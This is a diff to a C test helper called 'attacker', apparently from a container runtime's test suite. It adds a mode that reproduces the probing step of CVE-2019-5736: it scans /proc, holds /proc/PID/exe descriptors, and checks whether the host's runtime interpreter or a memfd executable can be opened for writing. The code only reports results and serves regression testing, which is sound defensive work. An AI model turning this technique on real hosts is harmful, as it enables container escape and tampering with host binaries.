@@ -14,6 +14,14 @@
  * in between).  Each one is a line on stdout ("PID how name"); the test
  * expects none, and some "saw PID name" lines (targets were there).  It runs for ARGV[1] seconds.  Built static by the test
  * (the container has no libc).
+ *
+ * `attacker exe SECONDS DEV INO` is CVE-2019-5736 itself: it opens
+ * /proc/PID/exe (O_PATH) of every process it sees and keeps the fd, and
+ * reports "host-exe PID" for one that is the host's file DEV:INO (the
+ * runtime's interpreter), "writable DEV:INO" when that file opens for
+ * writing through /proc/self/fd (or ETXTBSY says the check passed), at
+ * once and again after the process has gone, and "memfd-written" when a
+ * memfd exe takes a write.
  */
 #define _GNU_SOURCE
 #include <dirent.h>
@@ -123,11 +131,93 @@ static void attack(long pid)
 	}
 }
 
+#include <sys/stat.h>
+
+static void try_write(int fd, unsigned long dev, unsigned long ino, const char *when)
+{
+	char path[64], link[256];
+	struct stat st;
+	ssize_t n;
+	int w;
+
+	if (fstat(fd, &st) < 0)
+		return;
+	snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
+	n = readlink(path, link, sizeof link - 1);
+	link[n > 0 ? n : 0] = 0;
+	w = open(path, O_WRONLY | O_CLOEXEC);
+	if ((unsigned long)st.st_dev == dev && (unsigned long)st.st_ino == ino &&
+	    (w >= 0 || errno == ETXTBSY))
+		printf("writable %lu:%lu %s\n", dev, ino, when);
+	if (w >= 0 && strncmp(link, "/memfd:", 7) == 0 && write(w, "x", 1) == 1)
+		printf("memfd-written %s %s\n", link, when);
+	if (w >= 0)
+		close(w);
+	fflush(stdout);
+}
+
+static int exe_mode(int seconds, unsigned long dev, unsigned long ino)
+{
+	static int kept[4096];
+	static long seen[65536];
+	size_t nkept = 0, nseen = 0;
+	long self = (long)getpid();
+	time_t end = time(NULL) + seconds;
+
+	printf("ready\n");
+	fflush(stdout);
+	while (time(NULL) < end) {
+		DIR *proc = opendir("/proc");
+		struct dirent *entry;
+
+		if (!proc)
+			return 2;
+		while ((entry = readdir(proc)) != NULL) {
+			char *rest, path[64];
+			long pid = strtol(entry->d_name, &rest, 10);
+			struct stat st;
+			size_t i;
+			int fd;
+
+			if (*rest || pid <= 1 || pid == self)
+				continue;
+			for (i = 0; i < nseen && seen[i] != pid; i++)
+				;
+			if (i < nseen)
+				continue;
+			snprintf(path, sizeof path, "/proc/%ld/exe", pid);
+			fd = open(path, O_PATH | O_CLOEXEC);
+			if (fd < 0)
+				continue;
+			if (nseen < sizeof seen / sizeof seen[0])
+				seen[nseen++] = pid;
+			if (fstat(fd, &st) == 0 && (unsigned long)st.st_dev == dev &&
+			    (unsigned long)st.st_ino == ino)
+				printf("host-exe %ld\n", pid);
+			printf("saw %ld\n", pid);
+			fflush(stdout);
+			try_write(fd, dev, ino, "running");
+			if (nkept < sizeof kept / sizeof kept[0])
+				kept[nkept++] = fd;
+			else
+				close(fd);
+		}
+		closedir(proc);
+	}
+	for (size_t i = 0; i < nkept; i++)
+		try_write(kept[i], dev, ino, "after-exit");
+	printf("done\n");
+	fflush(stdout);
+	return 0;
+}
+
 int main(int argc, char **argv)
 {
 	time_t end;
 	long self = (long)getpid();
 
+	if (argc == 5 && strcmp(argv[1], "exe") == 0)
+		return exe_mode(atoi(argv[2]), strtoul(argv[3], NULL, 10), strtoul(argv[4], NULL, 10));
 	if (argc < 3) {
 		fprintf(stderr, "usage: attacker SECONDS NAME...\n");
 		return 2;
